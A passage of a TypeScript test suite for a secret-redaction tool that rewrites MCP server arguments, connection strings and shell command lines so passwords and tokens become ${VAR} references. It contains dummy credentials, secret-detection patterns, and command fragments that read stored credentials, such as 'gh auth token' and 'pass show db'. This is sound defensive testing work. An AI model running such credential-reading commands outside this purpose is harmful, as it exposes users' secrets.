  it("leaves long runs of braces, pairs, lone = signs and mysql -p words as they are", () => {
    // Their time is measured on the fuzz ladder (withoutProseSecrets shapes), not here.
    for (const text of [
      "}".repeat(20_000),
      '"a": "'.repeat(5_000),
      "a = ".repeat(5_000),
      "mysql -p".repeat(2_500),
    ]) {
      expect(withoutProseSecrets(text)).toBe(text);
    }
  });

  it("takes none of the same forms with an ordinary value for a credential", () => {
    const ordinary = [
      'Reply as {"secret": "banana", "key": "v1.2.3", "token": "user_id12"} only.',
      "See [the docs](https://docs.example.com/guide?page=2) first.",
      "curl -u admin https://example.com and mysql -u root -p mydb, then -pfoo12345678 alone.",
      "Send Authorization:Bearer token and set timeout = 30s and api_key = your_key.",
      "Use ${API_KEY} in {token} and `${X}`} here.",
      // A digest after curl's -u is data, not user:password (found by the planted-prose property).
      "-u sha256:a0000a00aaa00000aaa0aaaaa000aa0a00000a00 then nothing",
      "Check it with -u md5:9e107d9d372bb6826bd81d3542a419d6 first.",
    ];
    for (const text of ordinary) expect(withoutProseSecrets(text), text).toBe(text);
  });
});
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: ${VAR} references, meant literally.

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: ${VAR} references, meant literally.
describe("args: --env=NAME=<value>, connection strings and command lines are read as what they hold (r24 #1, #2)", () => {
  it("reads --env=NAME=<value> as the assignment it holds", () => {
    expect(
      withoutArgSecrets([
        "run",
        "--env=DATABASE_URL=postgres://app:Sup3rS3cret@db/app",
        "--env=GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123",
        "--env=MODE=fast",
        "img",
      ]),
    ).toEqual([
      "run",
      "--env=DATABASE_URL=postgres://db/app",
      "--env=GITHUB_TOKEN=${GITHUB_TOKEN}",
      "--env=MODE=fast",
      "img",
    ]);
  });

  it("reads a connection string's key=value pairs and replaces only the telling pair's value", () => {
    expect(
      withoutArgSecrets([
        "--connection-string",
        "Server=db;Database=app;User Id=sa;Password=S3cretPass99;",
        "host=db user=app password=S3cretPass99 dbname=app",
        "--url",
        "jdbc:sqlserver://db:1433;databaseName=app;user=sa;password=S3cretPass99",
        "--conn=DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=abc+def/ghi==;EndpointSuffix=core.windows.net",
        "-e",
        "SQL_CONN=Server=db;Pwd=S3cretPass99",
        "Server=db;Database=app;Trusted_Connection=True;",
        "Driver={ODBC Driver 18};Server=db;Uid=sa;Pwd={S3cret;Pass99};Encrypt=yes",
        "Driver={ODBC Driver 18};Pwd=S3cret Pass99;ApiKey=ghp_abcdefghijklmnopqrstuvwxyz0123",
      ]),
    ).toEqual([
      "--connection-string",
      "Server=db;Database=app;User Id=sa;Password=${PASSWORD};",
      "host=db user=app password=${PASSWORD} dbname=app",
      "--url",
      "jdbc:sqlserver://db:1433;databaseName=app;user=sa;password=${PASSWORD}",
      "--conn=DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=${ACCOUNTKEY};EndpointSuffix=core.windows.net",
      "-e",
      "SQL_CONN=Server=db;Pwd=${PWD_SECRET}",
      "Server=db;Database=app;Trusted_Connection=True;",
      "Driver={ODBC Driver 18};Server=db;Uid=sa;Pwd=${PWD_SECRET};Encrypt=yes",
      "Driver={ODBC Driver 18};Pwd=${PWD_SECRET};ApiKey=${APIKEY}",
    ]);
  });

  it("names r24's bundled MSSQL and docker servers and exports them without the password", () => {
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      bundle: {
        mcpServers: [
          {
            name: "mssql",
            command: "npx",
            args: [
              "-y",
              "mssql-mcp",
              "--connection-string",
              "Server=db;Database=app;User Id=sa;Password=S3cretPass99;",
            ],
          },
          {
            name: "pg",
            command: "docker",
            args: ["run", "--env=DATABASE_URL=postgres://app:Sup3rS3cret@db/app", "img"],
          },
        ],
      },
    };
    expect(findSpecSecrets(spec)).toEqual([
      {
        path: "bundle.mcpServers[0].args[3]",
        server: "mssql",
        sign: SecretSign.Flag,
        references: ["${PASSWORD}"],
      },
      // The URL's credentials are dropped: no reference.
      { path: "bundle.mcpServers[1].args[1]", server: "pg", sign: SecretSign.Userinfo },
    ]);
    const out = exportSpec(spec);
    expect(JSON.stringify(out)).not.toMatch(/S3cretPass99|Sup3rS3cret/);
    expect(findSpecSecrets(out)).toEqual([]);
  });

  it("reads a command line a word at a time, keeping it runnable with only the secret replaced", () => {
    for (const [line, safe] of [
      ["exec pg-mcp --url postgres://app:Sup3rS3cret@db/app", "exec pg-mcp --url postgres://db/app"],
      [
        "exec mcp-server  --api-key abc123def456ghi789 --port 80",
        "exec mcp-server  --api-key ${API_KEY} --port 80",
      ],
      ["exec mcp --token=abc123def456ghi789", "exec mcp --token=${TOKEN}"],
      [
        "GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123 exec gh-mcp --verbose",
        "GITHUB_TOKEN=${GITHUB_TOKEN} exec gh-mcp --verbose",
      ],
      [
        "exec srv --password 'two words' --name \"my server\"",
        "exec srv --password '${PASSWORD}' --name \"my server\"",
      ],
    ] as const) {
      expectHidden(line, safe);
      expectStable(safe);
      expectFlaggedOnce(line);
    }
    expect(findSpecSecrets(pasted("exec pg-mcp --url postgres://app:Sup3rS3cret@db/app"))).toEqual([
      { path: "bundle.mcpServers[0].command", server: "srv", sign: SecretSign.Userinfo },
    ]);
  });

  it("still takes a telling assignment's value whole when it holds a space and is no shell's command", () => {
    expect(withoutArgSecrets(["-e", "DB_PASS=two words here", "-u", "1000:1000"])).toEqual([
      "-e",
      "DB_PASS=${DB_PASS}",
      "-u",
      "1000:1000",
    ]);
  });

  it("reads curl's -u user:password, tight or spaced, and leaves docker's -u uid:gid", () => {
    expect(
      withoutArgSecrets(["-uadmin:S3cretPass99", "-u", "admin:S3cretPass99", "-u", "app:staff"]),
    ).toEqual(["-uadmin:${PASSWORD}", "-u", "admin:${PASSWORD}", "-u", "app:staff"]);
  });
});

describe("a reference is never named after a variable the environment always defines (r24 #10)", () => {
  it("names --pwd and PWD= values PWD_SECRET, and keeps every other name", () => {
    expect(
      withoutArgSecrets(["--user", "admin", "--pwd", "hunter2", "PWD=hunter2", "--path-token", "x1"]),
    ).toEqual([
      "--user",
      "admin",
      "--pwd",
      "${PWD_SECRET}",
      "PWD=${PWD_SECRET}",
      "--path-token",
      "${PATH_TOKEN}",
    ]);
    expect(withoutSecrets("hunter2", "pwd")).toBe("${PWD_SECRET}");
    expect(withoutSecrets("/home/me", "HOME_TOKEN")).toBe("${HOME_TOKEN}");
    expect(withoutProseSecrets("Log in with --pwd S3cretPass99 then.")).toBe(
      "Log in with --pwd ${PWD_SECRET} then.",
    );
    const spec = withServer({ command: "db-mcp", args: ["--user", "admin", "--pwd", "hunter2"] });
    expect(exportSpec(spec).bundle?.mcpServers?.[0]?.args).toEqual([
      "--user",
      "admin",
      "--pwd",
      "${PWD_SECRET}",
    ]);
  });
});
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: ${VAR} references, meant literally.

describe("a command line keeps every character but a secret's value (r32 #3, #8, #9)", () => {
  it.each([
    ["exec server --password hunter2x9;echo done", "exec server --password ${PASSWORD};echo done"],
    ["exec server --password hunter2x9|tee log", "exec server --password ${PASSWORD}|tee log"],
    ["exec server --password hunter2x9>log", "exec server --password ${PASSWORD}>log"],
    ["exec server --password 'hunter 2x9'", "exec server --password '${PASSWORD}'"],
    [
      "exec x --api-key=\"abc 123\" -H 'X-Api-Key: abcdef123'",
      "exec x --api-key=\"${API_KEY}\" -H 'X-Api-Key: ${X_API_KEY}'",
    ],
    ["exec x -u admin:S3cretPass99 -uroot:S3cretPass99", "exec x -u admin:${PASSWORD} -uroot:${PASSWORD}"],
    [
      'exec pg --url "postgres://app:Sup3rS3cret@db/app" | tee x',
      'exec pg --url "postgres://db/app" | tee x',
    ],
  ])("replaces only the value's characters in %j", (line, safe) => {
    expectHidden(line, safe);
    expectFlaggedOnce(line);
  });

  // Lines that say a telling word but hold no secret (a value read at run time: `$(…)`, a backtick,
  // `"$X"`, `${NAME:-}`, `$1`, …) are kept as they are: shell-command-export.test.ts's
  // TELLING_NO_SECRET, beside the same lines exported whole as a shell's own command.

  it("keeps the rest of the command after a telling assignment, in exportSpec's rounds too (#8)", () => {
    const key = "ghp_abcdefghijklmnopqrstuvwxyz0123";
    for (const [line, safe] of [
      [`GITHUB_TOKEN=${key} exec gh-mcp --stdio`, "GITHUB_TOKEN=${GITHUB_TOKEN} exec gh-mcp --stdio"],
      [
        `GITHUB_TOKEN=${key} && exec gh-mcp --api-key -u`,
        "GITHUB_TOKEN=${GITHUB_TOKEN} && exec gh-mcp --api-key -u",
      ],
    ] as const) {
      expectHidden(line, safe);
      expectStable(safe);
    }
  });

  it("replaces every secret beside a connection string and keeps its quotes (#9)", () => {
    const key = "ghp_abcdefghijklmnopqrstuvwxyz0123";
    for (const [line, safe, asArg] of [
      [
        `exec db-mcp --conn Server=db;Password=S3cret99; && GITHUB_TOKEN=${key} exec gh`,
        "exec db-mcp --conn Server=db;Password=${PASSWORD}; && GITHUB_TOKEN=${GITHUB_TOKEN} exec gh",
        // As one argument this line is read as a connection string first, which leaves the key
        // for exportSpec's next round: the pasted command alone reads it in one pass.
        false,
      ],
      [
        'exec db-mcp --conn "Server=db;Password=S3cret99;" --port 80',
        'exec db-mcp --conn "Server=db;Password=${PASSWORD};" --port 80',
        true,
      ],
      [
        `exec db-mcp --conn 'Server=db;Password=S3cret99;' --gh ${key}`,
        "exec db-mcp --conn 'Server=db;Password=${PASSWORD};' --gh ${SECRET}",
        true,
      ],
    ] as const) {
      expectHidden(line, safe, asArg);
      expectStable(safe);
      expectFlaggedOnce(line);
    }
  });

  it("reads a URL's credentials beside a connection string's pairs in the same word, in one pass", () => {
    for (const [line, safe] of [
      [
        '\' Server=db;Password=S3cret99; "a b" postgres://u:p4ssw0rd@h/d',
        '\' Server=db;Password=${PASSWORD}; "a b" postgres://h/d',
      ],
      [
        'exec x --conn "Server=postgres://u:p4ssw0rd@h;Password=S3cret99"',
        'exec x --conn "Server=postgres://h;Password=${PASSWORD}"',
      ],
    ] as const) {
      expectHidden(line, safe);
      expectStable(safe);
    }
  });

  it.each([
    ["printf $'it\\'s' && deploy --token hunter2", "printf $'it\\'s' && deploy --token ${TOKEN}"],
    ["deploy --token $'hunter2' --x", "deploy --token $'${TOKEN}' --x"],
    ["app --password=$'hunter2'", "app --password=$'${PASSWORD}'"],
    ["echo $'a\\\\' ; app --token hunter2", "echo $'a\\\\' ; app --token ${TOKEN}"],
    ["echo $'tab\\there' --api-key $'hunter2x9'", "echo $'tab\\there' --api-key $'${API_KEY}'"],
    // Written apart, the value is hidden as written, `$'…'` and all (r63 #6: it was written again in '…').
    ["deploy --token $'hun\\'ter2'", "deploy --token ${TOKEN}"],
    ["echo $$'a\\' ; app --token hunter2", "echo $$'a\\' ; app --token ${TOKEN}"],
  ])("reads bash's $'…' as a quote that \\' does not close in %j (r34 #5)", (line, safe) => {
    expectHidden(line, safe);
    expectStable(safe);
    expectFlaggedOnce(line);
  });

  it.each([
    // A quoted or escaped `)` in `$(…)`, an escaped backtick in `` `…` ``, a quoted `}` in `${…}`.
    [
      "V=$(echo \"$V\" | sed 's/)$//') && exec srv --api-key sk0abc9XYZ12",
      "V=$(echo \"$V\" | sed 's/)$//') && exec srv --api-key ${API_KEY}",
    ],
    ["X=$(printf '%s' ')') && deploy --token hunter2", "X=$(printf '%s' ')') && deploy --token ${TOKEN}"],
    ["X=`echo '\\`'` ; deploy --token hunter2", "X=`echo '\\`'` ; deploy --token ${TOKEN}"],
    ["echo ${GREETING:-'}'} && deploy --token hunter2", "echo ${GREETING:-'}'} && deploy --token ${TOKEN}"],
    [
      'X=$(echo ")" $\'\\\')\' \\) $(echo "(")) ; deploy --token hunter2',
      'X=$(echo ")" $\'\\\')\' \\) $(echo "(")) ; deploy --token ${TOKEN}',
    ],
    ['X="$(echo "\')")" ; deploy --token hunter2', 'X="$(echo "\')")" ; deploy --token ${TOKEN}'],
    ['X=${Y:-"}"} ; deploy --token hunter2', 'X=${Y:-"}"} ; deploy --token ${TOKEN}'],
    // A comment, and a heredoc's body, before the secret: kept, whatever quotes they hold.
    ["# don't log the token\nexec srv --token hunter2", "# don't log the token\nexec srv --token ${TOKEN}"],
    ["cd /srv # it's here\nexec srv --token hunter2", "cd /srv # it's here\nexec srv --token ${TOKEN}"],
    ["cd /srv;# it's here\nexec srv --token hunter2", "cd /srv;# it's here\nexec srv --token ${TOKEN}"],
    ["X=$(echo a # it's (\n) && deploy --token hunter2", "X=$(echo a # it's (\n) && deploy --token ${TOKEN}"],
    [
      "cat > /tmp/motd <<EOF\nit's up\nEOF\nexec srv --token hunter2",
      "cat > /tmp/motd <<EOF\nit's up\nEOF\nexec srv --token ${TOKEN}",
    ],
    [
      "cat > /tmp/motd <<'EOF'\nit's up\nEOF\nexec srv --token hunter2",
      "cat > /tmp/motd <<'EOF'\nit's up\nEOF\nexec srv --token ${TOKEN}",
    ],
    [
      'cat <<"EOF" >a; cat <<-END >b # two\nit\'s\nEOF\n\t"quoted\n\tEND\nexec srv --token hunter2',
      'cat <<"EOF" >a; cat <<-END >b # two\nit\'s\nEOF\n\t"quoted\n\tEND\nexec srv --token ${TOKEN}',
    ],
    [
      "cat <<- EOF\n\tit's\n\tEOF\nexec srv --token hunter2",
      "cat <<- EOF\n\tit's\n\tEOF\nexec srv --token ${TOKEN}",
    ],
    // Bash's `$"…"` is a double quote; a `$` that reads nothing is the character.
    ['deploy --token $"hunter2"', 'deploy --token $"${TOKEN}"'],
    ['app --password=$"hunter2"', 'app --password=$"${PASSWORD}"'],
    ['db --password "Passw0rd$"', 'db --password "${PASSWORD}"'],
    ["db --password Passw0rd$", "db --password ${PASSWORD}"],
    ['db --password "x9$%Qz7!k"', 'db --password "${PASSWORD}"'],
    // A backslash before a newline is a line continuation, read as nothing.
    ["deploy --token \\\nhunter2", "deploy --token \\\n${TOKEN}"],
    // The literal default of `${NAME:-word}`: bash's value while NAME is unset.
    ["exec srv --password ${DB_PASSWORD:-Tr0ub4dor3x}", "exec srv --password ${DB_PASSWORD:-${PASSWORD}}"],
    [
      'exec srv --password="${DB_PASSWORD:-Tr0ub4dor3x}"',
      'exec srv --password="${DB_PASSWORD:-${PASSWORD}}"',
    ],
    // The export never names the default after the variable the line already reads (r42a #9): a
    // host filling `DB_PASSWORD` with the default would change what the variable says everywhere.
    [
      "DB_PASSWORD=${DB_PASSWORD:-Tr0ub4dor3x} exec srv",
      "DB_PASSWORD=${DB_PASSWORD:-${DB_PASSWORD}} exec srv",
      "DB_PASSWORD=${DB_PASSWORD:-${DB_PASSWORD_2}} exec srv",
    ],
    [
      "DB_PASSWORD=${DB_PASSWORD:-dev} exec db-mcp",
      "DB_PASSWORD=${DB_PASSWORD:-${DB_PASSWORD}} exec db-mcp",
      "DB_PASSWORD=${DB_PASSWORD:-${DB_PASSWORD_2}} exec db-mcp",
    ],
    [
      "exec srv ${DB_PASSWORD-Tr0ub4dor3x}",
      "exec srv ${DB_PASSWORD-${DB_PASSWORD}}",
      "exec srv ${DB_PASSWORD-${DB_PASSWORD_2}}",
    ],
    ["exec srv --token ${T:=hunter2} --port 80", "exec srv --token ${T:=${TOKEN}} --port 80"],
    ["exec srv --api-key=${K=hunter2}", "exec srv --api-key=${K=${API_KEY}}"],
    ["exec srv --password ${PW:-'Tr0ub4 dor3x'}", "exec srv --password ${PW:-'${PASSWORD}'}"],
    ["exec srv --password \"${PW:-'Tr0ub4dor3x'}\"", "exec srv --password \"${PW:-'${PASSWORD}'}\""],
    [
      'exec srv ${DB_PASSWORD:-"a}b9"} --x',
      'exec srv ${DB_PASSWORD:-"${DB_PASSWORD}"} --x',
      'exec srv ${DB_PASSWORD:-"${DB_PASSWORD_2}"} --x',
    ],
    [
      "X=$(cat <<EOF\nit's up (soon\nEOF\n) ; deploy --token hunter2",
      "X=$(cat <<EOF\nit's up (soon\nEOF\n) ; deploy --token ${TOKEN}",
    ],
  ])(
    'reads quotes in substitutions, $"…" and ${NAME:-word} as bash does (a script, with a comment or a heredoc around the secret, exported whole: fix113), in %j (r35 #6, #1, #12)',
    (line, safe, exported = safe) => {
      if (SCRIPT.test(line)) return expectWholeLine(line);
      expectHidden(line, safe, undefined, exported);
      expectStable(safe);
      expectStable(exported);
      expectFlaggedOnce(line);
    },
  );

  it.each([
    'X=$(echo $((1<<2))\necho "it\'s") ; deploy --token hunter2',
    "X=$(( (1<<2) + 3 ))\ndeploy --token hunter2",
    'X=$(cat <<<"it\'s"\necho "(") ; deploy --token hunter2',
    "exec srv --token hunter2 # it's the prod one",
  ])(
    "reads no comment after a word, and exports a script (a line break, a shift's `<<` read as a heredoc's) whole, in %j (r35 #6, fix113)",
    (line) => {
      if (SCRIPT.test(line)) return expectWholeLine(line);
      expectHidden(line, line.replace("hunter2", "${TOKEN}"));
    },
  );

  it("reads no # comment in a command line, where cmd.exe starts none either", () => {
    expectHidden("srv --channel #general --token hunter2", "srv --channel #general --token ${TOKEN}");
  });

  it("exports a script holding a key shape or a URL's credentials in a comment or a heredoc's body whole (r35 #6, fix113)", () => {
    const key = "ghp_abcdefghijklmnopqrstuvwxyz0123";
    for (const [line, safe] of [
      [`# old key: ${key}\nexec gh-mcp`, "# old key: ${SECRET}\nexec gh-mcp"],
      [
        "cat > .env <<'EOF'\nDB_URL=postgres://app:Sup3rS3cret@db/app it's\nEOF\nexec srv",
        "cat > .env <<'EOF'\nDB_URL=postgres://db/app it's\nEOF\nexec srv",
      ],
      [
        "exec srv # see postgres://app:Sup3rS3cret@db/app, it's there\n",
        "exec srv # see postgres://db/app, it's there\n",
      ],
    ] as const) {
      expectWholeLine(line);
      // What the command-line reader wrote before is kept or whole: the body is not rewritten inside.
      expect([safe, "${SRV_COMMAND}"]).toContain(exportedLine(safe));
    }
  });

  // Generated command lines: ordinary words, quotes, operators, substitutions, comments and heredocs,
  // and secrets in each place the reader reads one; `expected` is the line with each secret HIDDEN.
  {
    const words = [
      "exec",
      "server",
      "--port",
      "80",
      "--verbose",
      ";",
      "|",
      "&&",
      ">",
      "log",
      '<<< "$PW"',
      "$(pass show db)",
      "`gh auth token`",
      "'single quoted'",
      '"double quoted"',
      "--token-budget",
      "2000",
      "--keyword",
      "--tokenizer",
      "llama3",
      "--password-file",
      "/run/pw",
      "GITHUB_TOKEN=${GITHUB_TOKEN}",
      '--api-key "$API_KEY"',
      "(",
      ")",
      "--auth-type",
      "oauth2",
      '--name "my server"',
      "a;b",
      "$'it\\'s'",
      "$'a\\\\'",
      "$'tab\\there'",
      "$(printf '%s' ')')",
      '"$(echo "\')")"',
      "`echo '\\`'`",
      "${GREETING:-'}'}",
      '$"it\'s"',
      '"Passw0rd$"',
      "${PORT:-8080}",
      "${DB_PASSWORD:-$FALLBACK}",
      // r37: arithmetic's `<<`.
      "((n = 1 << 4))",
      "$[1<<2]",
    ];
    // Comments and heredocs with an apostrophe: the reader reads neither as bash does any more (the
    // apostrophe opens a quote; it fails safe, hiding the secret but not only its characters), so
    // only the sh -c property below generates them.
    const unread = [
      "# don't log it\n",
      "cat <<EOF\nit's up\nEOF\n",
      "cat <<-'EOF' >x\n\tit's \"up\n\tEOF\n",
      // r37: a CRLF heredoc, `<<\\EOF`, a config body with no secret.
      "cat <<EOF\r\nit's up\r\nEOF\r\n",
      "cat <<\\EOF >x\nit's\nEOF\n",
      "cat > app.conf <<'EOF'\nport=80 it's\nEOF\n",
    ];
    const value = fc.stringMatching(/^[A-Za-z0-9]{6,12}[0-9][a-z]$/);
    const key = fc.stringMatching(/^[A-Za-z0-9]{36}$/).map((tail) => `ghp_${tail}`);
    // The reader no longer reads a heredoc's body as a config file (`password: 'X'`), nor a comment:
    // a shell's own command holding one is exported whole, and only the sh -c property generates them.
    const unreadSecrets = [
      value.map((s): [string, string, string] => [
        "cat > app.yaml <<'EOF'\r\npassword: '",
        s,
        "'\r\nEOF\r\n",
      ]),
      value.map((s): [string, string, string] => ["# it's --token ", s, "\n"]),
    ];
    const secrets: fc.Arbitrary<[string, string, string]>[] = [
      value.map((s): [string, string, string] => ["--password ", s, ""]),
      value.map((s): [string, string, string] => ["--api-key='", s, "'"]),
      value.map((s): [string, string, string] => ["GITHUB_TOKEN=", s, ""]),
      value.map((s): [string, string, string] => ['--token "', s, '"']),
      value.map((s): [string, string, string] => ["--token $'", s, "'"]),
      value.map((s): [string, string, string] => ["--password=$'", s, "'"]),
      value.map((s): [string, string, string] => ['--token $"', s, '"']),
      value.map((s): [string, string, string] => ["--password ${DB_PASSWORD:-", s, "}"]),
      value.map((s): [string, string, string] => ["${DB_PASSWORD-", s, "}"]),
      value.map((s): [string, string, string] => ['--api-key="${K:=', s, '}"']),
      value.map((s): [string, string, string] => ['--conn "Server=db;Password=', s, ';"']),
      value.map((s): [string, string, string] => ["postgres://", `app:${s}`, "@db/app"]),
      key.map((s): [string, string, string] => ["", s, ""]),
      // r37: a nested default, a heredoc's config body, a comment.
      value.map((s): [string, string, string] => ["--password ${DB_PASSWORD:-${DB_PASS:-", s, "}}"]),
      value.map((s): [string, string, string] => ["cat > app.conf <<EOF\nDB_PASSWORD=", s, "\nEOF\n"]),
    ];
    /** A generated line of `ordinary` words and `pieces`' secrets, and the same line with each secret's value HIDDEN. */
    const lines = (ordinary: string[], pieces: fc.Arbitrary<[string, string, string]>[]) => {
      const part = fc.oneof(
        fc.constantFrom(...ordinary).map((word): [string, string, string] => [word, "", ""]),
        fc.oneof(...pieces),
      );
      return fc
        .array(fc.tuple(part, fc.constantFrom(" ", "  ", "\t")), { minLength: 1, maxLength: 12 })
        .map((parts) => {
          let command = "";
          let expected = "";
          for (const [[before, hidden, after], gap] of parts) {
            command += before + hidden + after + gap;
            expected += before + (hidden === "" ? "" : "HIDDEN") + after + gap;
          }
          return { command, expected };
        });
    };

    /**
     * True when `line` is one connection string as SPEC.md reads it (fix130 #3): at least two
     * non-blank `;`-parts, each a `key=value` pair (the first may be a URL) whose value may hold
     * spaces but goes on with no flag and no word holding a quote, `$`, a backtick, `|`, `&`, `<`
     * or `>`. Its telling pair's value is then taken with its spaces (`GITHUB_TOKEN=X exec`), so
     * such a line is no command line whose secrets' spans alone change. As one argument, which
     * reaches no shell, a value goes on with any words up to its `;` (r46 R1): `shell` false.
     */
    const connectionLine = (line: string, shell: boolean) => {
      const parts = line.split(";").filter((part) => part.trim() !== "");
      const value = shell ? /^\s*\S*(?:\s+[^\s'"`$|&<>-][^\s'"`$|&<>]*)*\s*$/ : /^[\s\S]*$/;
      return (
        parts.length >= 2 &&
        parts.every((part, index) => {
          if (index === 0 && /^\s*[A-Za-z][A-Za-z0-9+.:-]*:\/\/\S*\s*$/.test(part)) return true;
          const pair = /^\s*[A-Za-z][\w.-]*(?:[ \t]+[A-Za-z][A-Za-z0-9]*)*\s*=([\s\S]*)$/.exec(part);
          return pair !== null && value.test(pair[1] ?? "");
        })
      );
    };

    it(
      "changes exactly the secrets' spans of a generated command line, and the export flags nothing (property)",
      () => {
        fc.assert(
          fc.property(lines(words, secrets), ({ command, expected }) => {
            // One export pass is a fixed point, and the export flags nothing.
            const once = withoutArgSecrets(["--run", command]);
            expect(withoutArgSecrets(once)).toEqual(once);
            expect(findSpecSecrets(withServer({ args: once }))).toEqual([]);
            expect(findSpecSecrets(exportSpec(pasted(command)))).toEqual([]);
            // A connection string's telling value is taken with its spaces: not this property's.
            if (connectionLine(command, true)) return;
            if (SCRIPT.test(command)) {
              // A script (a line break, a heredoc's or a shift's `<<`): kept byte for byte or
              // exported whole, whole whenever it holds a secret (fix113).
              const whole = exportedLine(command);
              expect([command, "${SRV_COMMAND}"]).toContain(whole);
              if (expected !== command) expect(whole).toBe("${SRV_COMMAND}");
              if (!ASSIGNED.test(command))
                expect(once).toEqual(["--run", whole === command ? command : "${SHELL_COMMAND}"]);
              return;
            }
            // Flagged exactly when it holds a secret; exported with each secret's value, and only its
            // characters, replaced by a reference (a URL's credentials dropped with their `@`).
            expect(findSpecSecrets(pasted(command))).toHaveLength(expected === command ? 0 : 1);
            const written = expected
              .split("HIDDEN@")
              .map((part) => part.split("HIDDEN").map(escapeRegExp).join("\\$\\{[A-Z][A-Z0-9_]*\\}"))
              .join("");
            expect(exportedLine(command)).toMatch(new RegExp(`^${written}$`));
            // As one argument too, a line holding `;` included: it is one connection string only
            // when each of its `;`-parts is a `key=value` pair (`exec A=x a;b` is a command line,
            // fix113). One starting `NAME=` or `--flag=` is read as that one value: not checked here.
            // As one argument, a value runs to its `;` whatever it holds: it hides more (r46 R1).
            if (!ASSIGNED.test(command) && !connectionLine(command, false))
              expect(withoutArgSecrets(["--run", command], () => "HIDDEN")).toEqual(["--run", expected]);
          }),
          propertyRuns(300),
        );
      },
      propertyTimeout(30_000),
    );

    it("keeps a generated sh -c command byte for byte or hides it whole, whole whenever it holds a secret, and the export flags nothing (property)", () => {
      fc.assert(
        fc.property(lines([...words, ...unread], [...secrets, ...unreadSecrets]), ({ command, expected }) => {
          const hidden = withoutArgSecrets(["-c", command], () => "HIDDEN")[1];
          expect(hidden === command || hidden === "HIDDEN").toBe(true);
          if (expected !== command) expect(hidden).toBe("HIDDEN");
          const once = withoutArgSecrets(["-c", command]);
          expect(withoutArgSecrets(once)).toEqual(once);
          const out = exportSpec(sh(command));
          // The export names a whole command after its server (`srv`).
          expect(out.bundle?.mcpServers?.[0]?.args).toEqual(
            once.map((arg) => arg.replace(`\${SHELL_COMMAND}`, `\${SRV_COMMAND}`)),
          );
          expect(findSpecSecrets(out)).toEqual([]);
        }),
        propertyRuns(300),
      );
    });
  }
});

describe("a literal default in a plain argument, env or header value is read as the command-line reader reads it (fix85's note 2)", () => {
  const key = "ghp_abcdefghijklmnopqrstuvwxyz0123";
  it.each([
    [
      ["--password", "${DB_PASSWORD:-Tr0ub4dor3x}"],
      ["--password", "${DB_PASSWORD:-${PASSWORD}}"],
    ],
    [
      ["--password", "${DB_PASSWORD-Tr0ub4dor3x}"],
      ["--password", "${DB_PASSWORD-${PASSWORD}}"],
    ],
    [["--password=${DB_PASSWORD:-X}"], ["--password=${DB_PASSWORD:-${PASSWORD}}"]],
    [["--api-key=${K:-hunter2x9}"], ["--api-key=${K:-${API_KEY}}"]],
    [
      ["--token", "${T:=hunter2}", "--port", "80"],
      ["--token", "${T:=${TOKEN}}", "--port", "80"],
    ],
    [
      ["-e", "DB_PASSWORD=${DB_PASSWORD:-dev}"],
      ["-e", "DB_PASSWORD=${DB_PASSWORD:-${DB_PASSWORD}}"],
      // The export never names the default after the variable the spec already reads (r42a #9).
      ["-e", "DB_PASSWORD=${DB_PASSWORD:-${DB_PASSWORD_2}}"],
    ],
    [
      ["-H", "Authorization: Bearer ${TOKEN:-sk-abcdefghijklmnop1234}"],
      ["-H", "Authorization: Bearer ${TOKEN:-${AUTHORIZATION}}"],
    ],
    [
      ["--conn", "Server=db;Password=${PW:-S3cret99};"],
      ["--conn", "Server=db;Password=${PW:-${PASSWORD}};"],
    ],
    // Under a variable whose whole name tells, with no telling flag, as the command-line reader reads it.
    [
      ["${DB_PASSWORD:-Tr0ub4dor3x}"],
      ["${DB_PASSWORD:-${DB_PASSWORD}}"],
      ["${DB_PASSWORD:-${DB_PASSWORD_2}}"],
    ],
    [["--x=${API_TOKEN-abc}"], ["--x=${API_TOKEN-${API_TOKEN}}"], ["--x=${API_TOKEN-${API_TOKEN_2}}"]],
    // A key shape in a default is a key shape.
    [[`\${GH:-${key}}`], ["${GH:-${SECRET}}"]],
    // Literal text outside the reference: the whole value, as before.
    [
      ["--password", "pre${DB_PASSWORD:-X}"],
      ["--password", "${PASSWORD}"],
    ],
  ])("replaces only the default's word in %j", (args, safe, exported = safe) => {
    expect(withoutArgSecrets(args)).toEqual(safe);
    expect(withoutArgSecrets(safe)).toEqual(safe);
    const spec = withServer({ args });
    expect(findSpecSecrets(spec)).toHaveLength(1);
    const out = exportSpec(spec);
    expect(out.bundle?.mcpServers?.[0]?.args).toEqual(exported);
    expect(findSpecSecrets(out)).toEqual([]);
  });

  it.each(
    [
      ["--password", "${DB_PASSWORD}"],
      ["--password", "${DB_PASSWORD:-}"],
      ["--password", "${DB_PASSWORD:-$FALLBACK}"],
      ["--password", "${DB_PASSWORD:-${PASSWORD}}"],
      ["--password=${DB_PASSWORD:?unset}", "--token=${T:+given}"],
      ["--port", "${PORT:-8080}", "--name", "${GREETING:-hello2x9}"],
      ["${DB_PASSWORD:-${DB_PASSWORD}}", "-e", "DB_PASSWORD=${DB_PASSWORD:-${DB_PASSWORD}}"],
      ["--conn", "Server=db;Password=${PW:-${PASSWORD}};"],
    ].map((args) => [args]),
  )("keeps run-time references as they are in %j", (args) => {
    expect(withoutArgSecrets(args)).toEqual(args);
    expect(findSpecSecrets(withServer({ args }))).toEqual([]);
  });

  it("flags an env value's or a header's literal default, and withoutSecrets replaces only its word", () => {
    const spec = withServer({
      env: { DB_PASSWORD: "${DB_PASSWORD:-Tr0ub4dor3x}", API_TOKEN: "${API_TOKEN:-$OTHER}" },
      headers: { Authorization: "Bearer ${TOKEN:-sk-abcdefghijklmnop1234}", "X-Api-Key": "${KEY}" },
    });
    expect(findSpecSecrets(spec).map((hint) => [hint.path, hint.sign])).toEqual([
      ["bundle.mcpServers[0].env.DB_PASSWORD", SecretSign.Field],
      ["bundle.mcpServers[0].headers.Authorization", SecretSign.Field],
    ]);
    expect(withoutSecrets("${DB_PASSWORD:-Tr0ub4dor3x}", "DB_PASSWORD")).toBe(
      "${DB_PASSWORD:-${DB_PASSWORD}}",
    );
    expect(withoutSecrets("Bearer ${TOKEN:-sk-abcdefghijklmnop1234}", "Authorization")).toBe(
      "Bearer ${TOKEN:-${AUTHORIZATION}}",
    );
